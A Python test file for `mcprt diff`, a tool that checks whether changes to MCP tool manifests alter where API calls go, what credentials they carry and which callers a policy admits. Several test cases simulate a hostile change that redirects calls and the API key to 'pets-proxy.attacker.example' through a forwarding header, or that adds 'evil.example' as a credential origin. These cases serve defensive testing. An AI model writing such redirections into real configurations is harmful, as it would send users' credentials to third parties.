"""`mcprt diff` tells a reviewer where a tool's calls go, what they carry and who may make them.

Found by a gitops trial (its PRs rebuilt here on the pets API, in a git repository, diffed `HEAD:api/mcp.yaml`
against the working tree as its CI example does, without the `.env` the repository ignores):
- a source's `base_url` pointed at another host with a header carrying `${API_KEY}` was "no tool changes"
  even under `--fail-on any`, and so were `credential_origins`, `path_slashes`, a renamed `auth.api_key`
  header and a header holding a literal token (which `validate` did not warn about either);
- with `server.auth.tokens: {alice: "${ALICE_TOKEN}"}` and a gitignored `.env`, a diff of an unchanged tree
  was a BREAKING "server auth changed: the value of its environment variables changed" (the revision's
  side got placeholders, the working tree's the real tokens);
- a path, a method or a `fixed` argument changed was no change ("0 of N recorded cases change") while
  `mcprt test` failed the cases with `request differs`, and a rule that now applied to the tool (a GET made
  POST loses `readOnlyHint`, which a committed rule keys on) was not shown.
"""

from __future__ import annotations

import copy
import json
import shutil
from pathlib import Path

import pytest

from tests.gitops.pets_api import API_KEY, SPEC, Workspace, make_workspace
from tests.gitops.test_gitops_diff import _git

TOKENS = {"ALICE_TOKEN": "alice-SECRET-0123456789", "CI_TOKEN": "cibot-SECRET-0123456789"}
SERVER = """\
server:
  auth:
    tokens: {alice: "${ALICE_TOKEN}", ci-bot: "${CI_TOKEN}"}
policy:
  default: allow
  rules:
    - {match: {principals: [ci-bot], annotations: {readOnlyHint: false}}, action: deny, reason: ci-bot is read-only}
"""
CASES = {
    "get_pet/pet-3": """\
tool: get_pet
operation: showPetById
args: {petId: 3}
request: {method: GET, url: "https://pets.example.com/v1/pets/3"}
response:
  status: 200
  json: {id: 3, name: Rex, status: available, category: {name: Dogs}}
""",
    "list_pets/available": """\
tool: list_pets
operation: listPets
args: {status: available}
request: {method: GET, url: "https://pets.example.com/v1/pets?status=available&limit=5"}
response:
  status: 200
  json:
    - {id: 1, name: Rex, tag: dog}
""",
}
SECRETS = (API_KEY, *TOKENS.values())


@pytest.fixture(scope="module")
def committed(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """repo/api: the pets manifest with inbound tokens and a policy, two recorded cases and their snapshots,
    committed; the tokens in a `.env` that .gitignore keeps out of the commits, as the README advises. Built
    once per module (`mcprt test --update` and three git commands): each test edits its own copy (`repo`)."""
    tmp_path = tmp_path_factory.mktemp("committed")
    ws = make_workspace(tmp_path / "repo" / "api", "http://127.0.0.1:9", tmp_path / "cache")
    ws.edit("version: 1\n", "version: 1\n" + SERVER)
    for case, text in CASES.items():
        path = ws.root / "cases" / f"{case}.yaml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (ws.root / ".env").write_text("".join(f"{k}={v}\n" for k, v in TOKENS.items()), encoding="utf-8")
    (tmp_path / "repo" / ".gitignore").write_text(".env\n", encoding="utf-8")
    written = ws.mcprt("test", "mcp.yaml", "--update")
    assert written.returncode == 0, written.stdout + written.stderr
    _git(tmp_path / "repo", "init", "-q")
    _git(tmp_path / "repo", "add", ".")
    _git(tmp_path / "repo", "commit", "-q", "-m", "base")
    return ws


@pytest.fixture
def repo(committed: Workspace, tmp_path: Path) -> Workspace:
    """This test's own copy of `committed` (the git repository, its working tree and `.env`), with an empty cache."""
    shutil.copytree(committed.root.parent, tmp_path / "repo", symlinks=True)
    return Workspace(tmp_path / "repo" / "api", {**committed.env, "MCPRT_CACHE_DIR": str(tmp_path / "cache")})


def _diff(ws: Workspace, *more: str) -> tuple[dict, str, int]:
    """The JSON diff of HEAD against the working tree as CI runs it (no API key in the environment), the
    text and markdown outputs joined, and the exit code of `--fail-on breaking`."""
    data = ws.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", "--format", "json", drop=("PETS_KEY",))
    assert data.returncode == 0, data.stderr
    markdown = ws.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", "--format", "markdown", drop=("PETS_KEY",))
    gate = ws.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", "--fail-on", "breaking", *more, drop=("PETS_KEY",))
    shown = gate.stdout + markdown.stdout  # text, then markdown
    for secret in SECRETS:
        assert secret not in data.stdout + shown + gate.stderr, secret
    return json.loads(data.stdout), shown, gate.returncode


def _tool_changes(data: dict) -> dict[str, list[tuple[str, str, bool]]]:
    return {t["name"]: [(c["kind"], c["detail"], c["breaking"]) for c in t["changes"]] for t in data["tools"]}


def test_an_unchanged_tree_whose_env_is_not_committed_is_no_change(repo: Workspace) -> None:
    data, shown, code = _diff(repo)
    assert (data["changed"], data["breaking"], data["manifest_changes"], data["tools"]) == (False, False, [], []), data
    assert code == 0 and "no breaking changes; no tool changes" in shown
    any_change = repo.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", "--fail-on", "any", drop=("PETS_KEY",))
    assert any_change.returncode == 0, any_change.stdout


def test_the_same_variable_with_another_value_on_each_side_is_no_change(repo: Workspace) -> None:
    """What the manifest says is compared: `${ALICE_TOKEN}` on both sides, whatever each side's `.env` holds."""
    (repo.root / ".env").write_text("ALICE_TOKEN=another-SECRET-98765432\nCI_TOKEN=x-SECRET-98765432\n")
    data, _, code = _diff(repo)
    assert data["manifest_changes"] == [] and code == 0, data["manifest_changes"]
    repo.edit('alice: "${ALICE_TOKEN}"', 'alice: "${ALICE_TOKEN_V2}"')  # another variable: named, breaking
    (repo.root / ".env").write_text("ALICE_TOKEN_V2=another-SECRET-98765432\nCI_TOKEN=x-SECRET-98765432\n")
    data, _, code = _diff(repo)
    assert [(c["kind"], c["detail"]) for c in data["manifest_changes"]] == [
        ("server auth changed", "`auth.tokens.alice` changed (callers let in or refused change)")]
    assert code == 1


LITERALS = ("pt-literal-8f3k2j5h7g9d", "sk-live-SECRET123456", "ghp_abcdef1234567890XYZ")


@pytest.mark.parametrize(("old", "new", "detail", "breaking"), [
    # the trial's PR: the calls and the API key to another host, and the key in one more header
    ("    base_url: http://127.0.0.1:9/v1\n",
     "    base_url: https://pets-proxy.attacker.example/v1\n    headers: {X-Forwarded-Secret: \"${PETS_KEY}\"}\n",
     ['`base_url`: "http://127.0.0.1:9/v1" → "https://pets-proxy.attacker.example/v1"',
      '`headers.X-Forwarded-Secret`: (none) → "${PETS_KEY}"'], True),
    ("    base_url: http://127.0.0.1:9/v1\n",
     "    base_url: http://127.0.0.1:9/v1\n    credential_origins: [\"https://evil.example\"]\n",
     ['`credential_origins`: (none) → ["https://evil.example"]'], True),
    ("    base_url: http://127.0.0.1:9/v1\n", "    base_url: http://127.0.0.1:9/v1\n    path_slashes: [petId]\n",
     ['`path_slashes`: (none) → ["petId"]'], True),
    ("name: X-Api-Key, in: header", "name: X-Key, in: header",
     ['`auth.api_key.name`: "X-Api-Key" → "X-Key"'], True),
    ('value: "${PETS_KEY}"', 'value: "${PETS_KEY_V2}"', ['`auth.api_key.value`: "${PETS_KEY}" → "${PETS_KEY_V2}"'],
     True),
    # a token written into the manifest: its change is told, never the token
    ("    base_url: http://127.0.0.1:9/v1\n",
     "    base_url: http://127.0.0.1:9/v1\n    headers: {X-Partner-Token: \"pt-literal-8f3k2j5h7g9d\"}\n",
     ["`headers.X-Partner-Token`: (none) → (a literal value, not shown)"], True),
    # … by the rule `validate` warns by: a value that reads as a token, under a name that says nothing (a review
    # of this diff found it printed in full, once per tool), and a token in a URL's query
    ("    base_url: http://127.0.0.1:9/v1\n",
     "    base_url: http://127.0.0.1:9/v1\n    headers: {X-Custom: \"Bearer sk-live-SECRET123456\"}\n",
     ["`headers.X-Custom`: (none) → (a literal value, not shown)"], True),
    ("    base_url: http://127.0.0.1:9/v1\n",
     "    base_url: \"http://127.0.0.1:9/v1?access_token=ghp_abcdef1234567890XYZ&page=2\"\n",
     ['`base_url`: "http://127.0.0.1:9/v1" → "http://127.0.0.1:9/v1?access_token=***&page=2"'], True),
    # how often, not what or where: told, not breaking
    ("    base_url: http://127.0.0.1:9/v1\n", "    base_url: http://127.0.0.1:9/v1\n    retries: 5\n",
     ["`retries`: (none) → 5"], False),
])
def test_a_source_setting_that_changes_requests_shows_once_with_the_tools_it_reaches(
        repo: Workspace, old: str, new: str, detail: list[str], breaking: bool) -> None:
    repo.edit(old, new)
    data, shown, code = _diff(repo)
    review = " (needs review: where calls go or what they carry)" if breaking else ""
    reach = " — reaches 4 tools: `create_pet`, `deletePet`, `get_pet`, `list_pets`"
    assert [(c["detail"], c["breaking"]) for c in data["manifest_changes"] if c["kind"] == "source setting changed"] \
        == [(f"source pets: {d}{review}{reach}", breaking) for d in detail]
    # stated once, not under each tool (nor as a second `servers` line where `base_url` replaces them)
    assert data["tools"] == [], data["tools"]
    assert shown.count("source setting changed") == 2 * len(detail)  # text and markdown
    assert data["changed"] is True and data["breaking"] is breaking
    assert code == (1 if breaking else 0)
    for literal in LITERALS:
        assert literal not in shown + json.dumps(data), literal


def test_a_big_source_stays_one_line_and_the_comment_under_githubs_limit(repo: Workspace) -> None:
    """Found by a review: a `base_url` added to a source of 260 operations printed 1,042 lines, and its
    markdown (79,720 characters) was over GitHub's 65,536-character comment limit."""
    spec = copy.deepcopy(SPEC)
    for i in range(300):
        spec["paths"][f"/things/{i}"] = {"get": {"operationId": f"getThing{i}",
                                                 "summary": f"Thing {i}: " + "a long summary " * 12,
                                                 "responses": {"200": {"description": "ok"}}}}
    _write_spec(repo, spec)
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "add", ".")
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "big")
    repo.edit("    base_url: http://127.0.0.1:9/v1\n", "    base_url: https://pets-proxy.example/v1\n")
    data, shown, code = _diff(repo)
    assert [c["detail"] for c in data["manifest_changes"]] == [
        'source pets: `base_url`: "http://127.0.0.1:9/v1" → "https://pets-proxy.example/v1" (needs review: where '
        "calls go or what they carry) — reaches 304 tools: `create_pet`, `deletePet`, `getThing0`, `getThing1`, "
        "`getThing10`, `getThing100`, `getThing101`, `getThing102`, `getThing103`, `getThing104` and 294 more"]
    assert data["tools"] == [] and code == 1
    # every description changed: one row per tool, the markdown cut under the limit with a note
    _write_spec(repo, {**spec, "paths": {path: {method: {**op, "summary": op.get("summary", "") + " (v2)"}
                                                for method, op in item.items()}
                                         for path, item in spec["paths"].items()}})
    markdown = repo.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", "--format", "markdown", drop=("PETS_KEY",))
    text = repo.mcprt("diff", "HEAD:api/mcp.yaml", "mcp.yaml", drop=("PETS_KEY",))
    assert markdown.returncode == 0 and text.returncode == 0, markdown.stderr
    assert len(markdown.stdout) <= 65_536, len(markdown.stdout)
    assert "more lines not shown**: this comment is cut at 60,000 characters" in markdown.stdout
    assert markdown.stdout.rstrip().endswith("<sub>Generated by `mcprt diff`.</sub>")
    assert "getThing299: changed" in text.stdout  # the text output keeps all of it


def _write_spec(ws: Workspace, spec: dict) -> None:
    (ws.root / "pets.json").write_text(json.dumps(spec), encoding="utf-8")


def _cases(data: dict) -> dict[str, list[str]]:
    return {c["case"]: c["fails"] for c in data["cases"] if c["changed"]}


def test_a_path_moved_in_the_spec_is_a_request_change_and_its_case_changes(repo: Workspace) -> None:
    spec = copy.deepcopy(SPEC)
    spec["paths"]["/v2/pets/{petId}"] = spec["paths"].pop("/pets/{petId}")
    _write_spec(repo, spec)
    data, shown, code = _diff(repo)
    changes = _tool_changes(data)
    moved = [("request changed", '`path`: "/pets/{petId}" → "/v2/pets/{petId}" (the upstream receives another '
              "request)", True)]
    assert changes == {"get_pet": moved, "deletePet": moved}, changes
    assert _cases(data) == {"get_pet/pet-3": ["request differs: path: recorded /v1/pets/3, sent /v1/v2/pets/3"]}
    assert "recorded cases: 1 of 2 change (what the model receives, or what `mcprt test` says)" in shown
    assert "`mcprt test` fails it: request differs: path" in shown
    assert code == 1
    # `mcprt test` agrees
    test = repo.mcprt("test", "mcp.yaml", drop=("PETS_KEY",))
    assert test.returncode == 1 and "request differs" in test.stdout + test.stderr
    # found by a review: once the move is committed, a change elsewhere does not count the case it broke
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "commit", "-qam", "moved")
    repo.edit("        name: create_pet\n", "        name: create_pet\n        description: Add a pet.\n")
    data, shown, _ = _diff(repo)
    assert _cases(data) == {} and [c["case"] for c in data["cases"] if c["still_fails"]] == ["get_pet/pet-3"]
    assert "recorded cases: 0 of 2 change (what the model receives, or what `mcprt test` says)" in shown
    assert ("`mcprt test` failed it before this change too: request differs: path: recorded /v1/pets/3, sent "
            "/v1/v2/pets/3") in shown


def test_the_descriptions_servers_are_a_request_change_where_no_base_url_replaces_them(repo: Workspace) -> None:
    """The request is described from the compiled plan when `mcprt diff` asks (not stored with every compiled
    operation): a spec's `servers` moved is told under each tool; with a `base_url`, they send nothing."""
    repo.edit("    base_url: http://127.0.0.1:9/v1\n", "")
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "commit", "-qam", "no base_url")
    _write_spec(repo, {**SPEC, "servers": [{"url": "https://pets-v2.example.com/v1"}]})
    data, _, code = _diff(repo)
    moved = ("request changed", '`servers`: ["https://pets.example.com/v1"] → ["https://pets-v2.example.com/v1"] (the '
             "upstream receives another request)", True)
    assert {tool: changes for tool, changes in _tool_changes(data).items()} == {
        tool: [moved] for tool in ("create_pet", "deletePet", "get_pet", "list_pets")}
    assert code == 1
    repo.edit("sources:\n  pets:\n", "sources:\n  pets:\n    base_url: http://127.0.0.1:9/v1\n")
    data, _, _ = _diff(repo)
    assert data["tools"] == [], data["tools"]  # the `base_url` source setting says where calls go now


def test_a_get_made_post_shows_the_method_the_path_and_the_policy_it_now_falls_under(repo: Workspace) -> None:
    spec = copy.deepcopy(SPEC)
    operation = spec["paths"]["/pets/{petId}"].pop("get")
    spec["paths"]["/pets/{petId}/archive"] = {"post": operation}
    _write_spec(repo, spec)
    data, shown, code = _diff(repo)
    changes = _tool_changes(data)["get_pet"]
    assert ("request changed", '`method`: "GET" → "POST" (the upstream receives another request)', True) in changes
    assert ("request changed", '`path`: "/pets/{petId}" → "/pets/{petId}/archive" (the upstream receives another '
            "request)", True) in changes
    assert ("annotations changed", '{"readOnlyHint":true} → {"readOnlyHint":false}', False) in changes
    # the committed rule denies ci-bot every tool that is not read-only: it now applies to this one
    policy = [(detail, breaking) for kind, detail, breaking in changes if kind == "policy decision changed"]
    assert policy == [("for ci-bot: allow (default) → deny (rules[0]: ci-bot is read-only)", True)], policy
    assert _cases(data)["get_pet/pet-3"][0] == "request differs: method: recorded GET, sent POST"
    assert code == 1


def _policy_changes(data: dict) -> dict[str, list[str]]:
    return {tool: [detail for kind, detail, _ in changes if kind == "policy decision changed"]
            for tool, changes in _tool_changes(data).items()
            if any(kind == "policy decision changed" for kind, _, _ in changes)}


def test_a_policy_decision_changes_only_when_its_outcome_does(repo: Workspace) -> None:
    """Found by a review: the decision was compared with its rule's label and reason, so a reworded reason, a
    rule moved down the list, or a default-allow policy added were each a breaking "policy decision changed"
    although every caller was decided the same."""
    repo.edit("reason: ci-bot is read-only", "reason: ci-bot may only read")
    data, _, code = _diff(repo)
    assert _policy_changes(data) == {} and code == 0, data
    # a rule put first: its tool is now denied to alice (told, with the rule); ci-bot, denied before by the
    # other rule (now `rules[1]`), is decided the same
    repo.edit("  rules:\n", "  rules:\n    - {match: {tools: [deletePet]}, action: deny, reason: no deletes}\n")
    data, _, code = _diff(repo)
    assert _policy_changes(data) == {"deletePet": ["for alice: allow (default) → deny (rules[0]: no deletes)"]}, data
    assert code == 1
    # no policy, then a policy whose default allows: only the tool its rule denies changes
    repo.edit("    - {match: {tools: [deletePet]}, action: deny, reason: no deletes}\n", "")
    text = (repo.root / "mcp.yaml").read_text()
    policy = text[text.index("policy:\n"):text.index("ci-bot may only read}\n") + len("ci-bot may only read}\n")]
    (repo.root / "mcp.yaml").write_text(text.replace(policy, ""))
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "commit", "-qam", "no policy")
    repo.edit("version: 1\n", "version: 1\npolicy:\n  default: allow\n  rules:\n"
              "    - {match: {tools: [deletePet]}, action: deny, reason: no deletes}\n")
    data, _, _ = _diff(repo)
    assert _policy_changes(data) == {"deletePet": [f"for {who}: allow (no policy) → deny (rules[0]: no deletes)"
                                                   for who in ("alice", "ci-bot")]}, data


def test_a_fixed_argument_is_a_request_change_never_harmless(repo: Workspace) -> None:
    repo.edit("        args:\n          limit: {default: 5}\n",
              "        args:\n          limit: {default: 5}\n          status: {fixed: sold}\n")
    data, shown, code = _diff(repo)
    changes = _tool_changes(data)["list_pets"]
    assert ("request changed", '`arguments sent.status`: (none) → "sold" (a call sends this whatever the model '
            "asks) (the upstream receives another request)", True) in changes, changes
    assert data["breaking"] is True and code == 1
    fails = _cases(data)["list_pets/available"]
    # the recorded case asked for `status` itself: a client's value for an argument the server now sets is
    # refused (toolset.invoke.check_arguments), so no request reaches the upstream; the fix is named
    assert fails and fails[0].startswith("request differs: ") and "'status' is set by the server" in fails[0], fails
    assert "the manifest now sets `status` itself (`fixed`)" in fails[0], fails
    assert "remove `status` from the case's `args:`" in fails[0], fails
    # a fixed value changed again: told with both values
    _git(repo.root.parent, "-c", "core.hooksPath=/dev/null", "commit", "-qam", "fixed")
    repo.edit("status: {fixed: sold}", "status: {fixed: available}")
    data, _, _ = _diff(repo)
    assert ("request changed", '`arguments sent.status`: "sold" → "available" (a call sends this whatever the model '
            "asks) (the upstream receives another request)", True) in _tool_changes(data)["list_pets"]


def test_validate_warns_at_a_literal_token_in_headers(repo: Workspace) -> None:
    """By its name (`X-Partner-Token`) or its value (a long run of letters and digits); not a date, a word, or
    a credential from `${VAR}`."""
    repo.edit("    base_url: http://127.0.0.1:9/v1\n",
              "    base_url: http://127.0.0.1:9/v1\n    headers: {X-Partner-Token: \"pt-literal-8f3k2j5h7g9d\", "
              "X-Trace: on, X-Api-Version: \"2024-01-01\", X-Forwarded-Key: \"${PETS_KEY}\", "
              "X-Custom: \"Bearer sk-live-SECRET123456\", Accept: application/vnd.pets+json}\n")
    result = repo.mcprt("validate", "--offline", "mcp.yaml")
    out = result.stdout + result.stderr
    warned = [line for line in out.splitlines() if "written literally" in line]
    assert [line.split(": warning: ")[0] for line in warned] == ["mcp.yaml:15:32", "mcp.yaml:15:143"], out
    assert "`X-Partner-Token`" in warned[0] and "`X-Custom`" in warned[1]
    assert result.returncode == 0
    assert "pt-literal-8f3k2j5h7g9d" not in out and "sk-live-SECRET123456" not in out


def test_following_the_rename_advice_keeps_the_case_passing(repo: Workspace) -> None:
    """Found by the same trial: after `mcprt test`'s advice to rename the case folder, the case failed as
    "what the model receives changed" over the snapshot's header comment, which the model never sees."""
    repo.edit("        name: get_pet\n", "        name: fetch_pet\n")
    advised = repo.mcprt("test", "mcp.yaml", drop=("PETS_KEY",))
    out = advised.stdout + advised.stderr
    assert advised.returncode == 0, out
    assert ("rename cases/get_pet/ and cases/__snapshots__/get_pet/ to fetch_pet/ and set `tool: fetch_pet` in "
            "each case") in out, out
    cases = repo.root / "cases"
    (cases / "get_pet").rename(cases / "fetch_pet")
    (cases / "__snapshots__" / "get_pet").rename(cases / "__snapshots__" / "fetch_pet")
    case = cases / "fetch_pet" / "pet-3.yaml"
    case.write_text(case.read_text().replace("tool: get_pet", "tool: fetch_pet"))
    followed = repo.mcprt("test", "mcp.yaml", drop=("PETS_KEY",))
    assert followed.returncode == 0 and "output differs" not in followed.stdout, followed.stdout + followed.stderr
    # only the header is left out: a changed output still fails
    repo.edit("{id: id, name: name, status: status, category: category.name}", "{id: id, name: name}")
    changed = repo.mcprt("test", "mcp.yaml", drop=("PETS_KEY",))
    assert changed.returncode == 1 and "output differs" in changed.stdout + changed.stderr


def test_a_one_value_header_the_spec_adds_is_a_request_change_not_an_argument(repo: Workspace) -> None:
    """A parameter whose schema admits one value (AWS's `X-Amz-Target`) is sent by mcprt, not asked of the
    model (`openapi/inputs.sole_value`): the tool's arguments stay the same, and the reviewer sees the value
    the upstream now receives under the request's `fixed`."""
    spec = copy.deepcopy(SPEC)
    spec["paths"]["/pets"]["get"]["parameters"].append(
        {"name": "X-Api-Target", "in": "header", "required": True, "schema": {"type": "string", "enum": ["Pets.List"]}})
    _write_spec(repo, spec)
    data, _, code = _diff(repo)
    assert _tool_changes(data) == {"list_pets": [
        ("request changed", '`fixed.header X-Api-Target`: (none) → "Pets.List" (the upstream receives another '
         "request)", True)]}
    assert code == 1
